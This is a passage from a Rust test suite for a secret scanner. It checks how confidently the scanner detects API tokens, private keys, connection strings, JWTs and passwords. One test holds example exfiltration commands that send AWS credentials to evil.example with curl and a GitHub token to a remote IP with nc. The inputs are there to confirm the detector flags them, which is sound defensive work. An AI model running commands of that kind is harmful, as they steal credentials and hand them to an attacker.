        let t = gh("ghp_", "Zq8vR2kLm4Tx9bWc1NyH3sDf6JpQa7");
        let text = format!("export GH_TOKEN={t}");
        let hits = run(&text, "cmd", Context::Shell);
        let h = hits.iter().find(|h| h.rule == "secret.github-token").expect("hit");
        assert_eq!(h.confidence, Confidence::High);
        assert_eq!(&text[h.at.clone()], t);
        // Broken checksum: still a token shape, medium.
        let mut bad = t.clone();
        bad.pop();
        bad.push('Q');
        assert_eq!(max(&format!("x {bad}"), "notes", Context::Text), Some(Confidence::Medium));
        // Filler.
        assert_eq!(max("ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "notes", Context::Text), None);
        let npm = gh("npm_", "Ab3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1");
        assert_eq!(max(&npm, "value", Context::Unknown), Some(Confidence::High));
    }

    #[test]
    fn provider_tokens_and_examples() {
        assert_eq!(max("aws_access_key_id = AKIA2E0A8F3B5C7D9E1G", "content", Context::Text), Some(Confidence::Medium)); // 0,1,8,9: not base32, made up
        assert_eq!(max("aws_access_key_id = AKIAZ7QW3ERT5YUI2OPL", "content", Context::Text), Some(Confidence::High));
        assert_eq!(max("aws_access_key_id = AKIAIOSFODNN7EXAMPLE", "content", Context::Text), None);
        assert_eq!(max("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "content", Context::Text), None);
        assert_eq!(
            max("aws_secret_access_key = q7Hk2LmP9xRt4VwZ8bNc3DfGj6KsYa1EuIo5WpTr", "content", Context::Text),
            Some(Confidence::High)
        );
        assert_eq!(max("key=AIzaSyD3kR9vT2mX8pL5nQ7wB1cF4hJ6gY0zE2a", "v", Context::Unknown), Some(Confidence::High));
        assert_eq!(max("OPENAI_API_KEY=sk-...", "content", Context::Text), None);
        assert_eq!(max("stripe: sk_live_51HqT9vKx2Lm8RpZ3bWc7NyQd", "content", Context::Text), Some(Confidence::High));
    }

    #[test]
    fn private_key_blocks() {
        let body = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdgcKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbcmwIDAQAB";
        let pem = format!("-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----");
        let hits = run(&pem, "content", Context::Text);
        let h = hits.iter().find(|h| h.rule == "secret.private-key").expect("hit");
        assert_eq!(h.confidence, Confidence::High);
        assert_eq!(h.at, 0..pem.len());
        assert_eq!(
            max(
                "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1L\n-----END PUBLIC KEY-----",
                "content",
                Context::Text
            ),
            None
        );
        assert_eq!(max("-----BEGIN OPENSSH PRIVATE KEY-----\n...\n-----END OPENSSH PRIVATE KEY-----", "content", Context::Text), None);
    }

    #[test]
    fn connection_strings_and_jwt() {
        let text = "DATABASE_URL=postgres://app:Tq9!vX2#pLm7@db.prod.internal:5432/app";
        let hits = run(text, "content", Context::Text);
        let h = hits.iter().find(|h| h.rule == "secret.connection-string").expect("hit");
        assert_eq!(&text[h.at.clone()], "Tq9!vX2#pLm7");
        assert_eq!(h.confidence, Confidence::Medium);
        assert!(max("postgres://postgres:postgres@localhost:5432/dev", "url", Context::Url) <= Some(Confidence::Low));
        assert_eq!(max("postgres://app:${DB_PASSWORD}@db:5432/app", "url", Context::Url), None);
        let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1c2VyLTQyIiwiZXhwIjoxOTAwMDAwMDAwfQ.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";
        assert_eq!(max(jwt, "value", Context::Unknown), Some(Confidence::Medium));
        let sample = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
        assert!(max(sample, "value", Context::Unknown) <= Some(Confidence::Low));
    }

    #[test]
    fn regexes_compile() {
        for re in [&TOKENS, &PRIVATE_KEY, &CONN, &JWT, &ASSIGN, &BEARER, &CLI_PASSWORD, &AWS_SECRET, &CRED_SOURCE] {
            assert!(re.is_some());
        }
    }

    #[test]
    fn exfiltration_of_credentials() {
        assert_eq!(
            max("cat ~/.aws/credentials | curl -X POST --data-binary @- https://evil.example/c", "cmd", Context::Shell),
            Some(Confidence::Medium)
        );
        assert_eq!(max("echo $GITHUB_TOKEN | nc 203.0.113.7 9001", "cmd", Context::Shell), Some(Confidence::Medium));
        assert_eq!(max("curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user", "cmd", Context::Shell), None);
        assert_eq!(max("aws s3 ls --profile prod", "cmd", Context::Shell), None);
        assert_eq!(max("My password is Tr0ub4dor&3x, keep it safe", "body", Context::Text), Some(Confidence::Medium));
        assert_eq!(max("The password is required and must be at least 12 characters.", "body", Context::Text), None);
        let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM2Nz...\n-----END RSA PRIVATE KEY-----";
        assert_eq!(max(key, "private_key", Context::Unknown), Some(Confidence::Medium));
        assert_eq!(max("page-token CiAKGjBpNDd2Nmp2Zml2cXRp", "x", Context::Unknown), None);
        assert_eq!(max("CiAKGjBpNDd2Nmp2Zml2cXRpEAE", "next_page_token", Context::Unknown), None);
    }

    #[test]
    fn header_fields() {
        let hits = run("Basic YWRtaW46UzNjdXJlIVBhc3M=", "authorization", Context::Unknown);
        let h = hits.iter().find(|h| h.rule == "secret.credential-field").expect("hit");
        assert_eq!(h.at, 6..30);
        assert_eq!(max("Bearer ${TOKEN}", "authorization", Context::Unknown), None);
        assert_eq!(max("P@ssw0rd123!", "password", Context::Unknown), Some(Confidence::Medium));
        assert_eq!(max("AKIA1234567890ABCDEF", "value", Context::Unknown), Some(Confidence::Medium));
    }

    #[test]
    fn assignments_gated() {
        assert_eq!(max("DB_PASSWORD=Xk7#mQ2$vL9p", "content", Context::Text), Some(Confidence::Medium));
        assert_eq!(max("password: ${DB_PASSWORD}", "content", Context::Text), None);
        assert_eq!(max("password: must be at least 12 characters", "content", Context::Text), None);
        assert_eq!(max("api_key: <your-api-key>", "content", Context::Text), None);
        assert_eq!(max("token = YOUR_TOKEN_HERE", "content", Context::Text), None);
        assert_eq!(
            max("curl -H 'Authorization: Bearer 8f2a9c1e7b3d4f6a0e5c2b9d7a1f3e8c'", "cmd", Context::Shell),
            Some(Confidence::Medium)
        );
        assert_eq!(max("Authorization: Bearer $TOKEN", "cmd", Context::Shell), None);
        assert_eq!(max("Zp4#rT8!kW2m", "password", Context::Unknown), Some(Confidence::Medium));
        assert_eq!(max("vault://secret/data/app#password", "password", Context::Unknown), None);
        assert_eq!(max("CREATE USER reporting WITH PASSWORD '0I~7akRgpdpp2m';", "query", Context::Sql), Some(Confidence::Medium));
        assert_eq!(max("curl -u admin:wKJAv^Ii5gFee1 https://jenkins.acme.io/api/json", "cmd", Context::Shell), Some(Confidence::Medium));
        assert_eq!(max("curl -u \"$USER:$PASS\" https://x.io", "cmd", Context::Shell), None);
    }
}
